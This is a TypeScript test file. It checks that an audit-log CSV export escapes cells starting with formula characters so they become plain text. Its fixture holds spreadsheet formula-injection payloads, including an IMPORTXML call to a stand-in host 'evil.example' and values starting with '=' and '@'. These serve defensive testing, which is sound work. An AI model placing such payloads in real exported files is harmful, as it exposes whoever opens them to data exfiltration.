import type { TFunction } from 'i18next';
import { describe, expect, it, vi } from 'vitest';
import { fetchAuditCsv } from '@/api/audit';
import { dateFormat } from '@/i18n/dates';
import { downloadCsv, parseCsv } from '@/lib/csv';
import { exportAuditLog } from './export-file';

vi.mock('@/api/audit', () => ({ fetchAuditCsv: vi.fn() }));
vi.mock('@/lib/csv', async (original) => ({
  ...(await original<typeof import('@/lib/csv')>()),
  downloadCsv: vi.fn(),
}));

describe('the audit log file', () => {
  it('writes an entity label, a reason and changes that start a formula as text', async () => {
    vi.mocked(fetchAuditCsv).mockResolvedValue(
      'id,at,actorId,actor,action,entityType,entityId,entity,memberId,reason,changes\r\n' +
        'a1,2026-11-20T10:00:00.000Z,u1,Ada,mission.created,mission,m1,' +
        '"=IMPORTXML(""https://evil.example"",""//a"")",,"\r=1+2",@x\r\n',
    );
    await exportAuditLog({}, ((key: string) => key) as unknown as TFunction, dateFormat('en-GB'));
    const [, row] = parseCsv(vi.mocked(downloadCsv).mock.calls[0]![1]);
    expect(row?.[7]).toBe(`'=IMPORTXML("https://evil.example","//a")`);
    expect(row?.slice(9)).toEqual(["'\r=1+2", "'@x"]);
  });
});
